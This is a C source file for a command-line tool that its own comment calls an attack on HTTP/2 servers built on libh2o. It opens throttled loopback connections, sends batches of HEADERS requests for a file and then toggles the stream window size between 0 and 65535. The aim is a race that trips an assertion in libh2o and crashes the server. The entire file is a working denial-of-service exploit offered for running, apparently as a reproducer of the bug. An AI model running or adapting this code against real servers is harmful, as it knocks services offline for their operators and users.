/*
 * An attack that Node cannot make: an HTTP/2 client with segments of 88 bytes
 * and no room to receive asks for a file, so that the server's write stops in
 * the middle with streams finished in it; then it moves the streams' window
 * below 0 and above. libh2o alone asserts that this does not happen. Which
 * rounds meet the moment is chance: about one of five does.
 *
 *   window PORT ROUNDS
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct bytes {
	uint8_t at[8192];
	size_t size;
};

static void
put(struct bytes *out, const void *bytes, size_t size)
{
	memcpy(out->at + out->size, bytes, size);
	out->size += size;
}

static void
put_frame(struct bytes *out, uint8_t type, uint8_t flags, uint8_t stream, const void *payload,
	  uint8_t size)
{
	uint8_t head[9] = {0, 0, size, type, flags, 0, 0, 0, stream};

	put(out, head, sizeof head);
	put(out, payload, size);
}

static void
put_window(struct bytes *out, uint32_t window)
{
	uint8_t payload[6] = {0,
			      4,
			      (uint8_t)(window >> 24),
			      (uint8_t)(window >> 16),
			      (uint8_t)(window >> 8),
			      (uint8_t)window};

	put_frame(out, 4, 0, 0, payload, sizeof payload);
}

static void
wait_ms(long ms)
{
	nanosleep(&(struct timespec){ms / 1000, ms % 1000 * 1000000}, NULL);
}

static int
connect_slowly(uint16_t port)
{
	struct sockaddr_in address = {.sin_family = AF_INET,
				      .sin_port = htons(port),
				      .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), least = 1, segment = 88, on = 1;

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &least, sizeof least) != 0 ||
	    setsockopt(fd, IPPROTO_TCP, TCP_MAXSEG, &segment, sizeof segment) != 0 ||
	    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on) != 0 ||
	    connect(fd, (struct sockaddr *)&address, sizeof address) != 0) {
		perror("connect");
		exit(1);
	}
	return fd;
}

static void
say(int fd, struct bytes *out)
{
	(void)!send(fd, out->at, out->size, MSG_NOSIGNAL);
	out->size = 0;
}

static void
attack(uint16_t port, uint8_t requests)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	static const char block[] = "\x82\x86\0\5:path\x8/drum.js\0\xa:authority\1a";
	static const uint8_t increment[4] = {0x3f, 0xff, 0xff, 0xff};
	int fd = connect_slowly(port);
	struct bytes out = {.size = 0};

	put(&out, preface, sizeof preface - 1);
	put_window(&out, 1 << 20);
	put_frame(&out, 8, 0, 0, increment, sizeof increment);
	for (uint8_t i = 0; i < requests; i++)
		put_frame(&out, 1, 5, (uint8_t)(2 * i + 1), block, sizeof block - 1);
	say(fd, &out);
	for (int i = 0; i < 5; i++) {
		wait_ms(4);
		put_window(&out, 0);
		put_window(&out, 65535);
		say(fd, &out);
	}
	wait_ms(4);
	close(fd);
}

int
main(int argc, char **argv)
{
	int rounds = argc == 3 ? atoi(argv[2]) : 0;

	if (rounds <= 0) {
		fprintf(stderr, "usage: window PORT ROUNDS\n");
		return 2;
	}
	for (int i = 0; i < rounds; i++)
		attack((uint16_t)atoi(argv[1]), (uint8_t)(1 + i % 50));
	return 0;
}
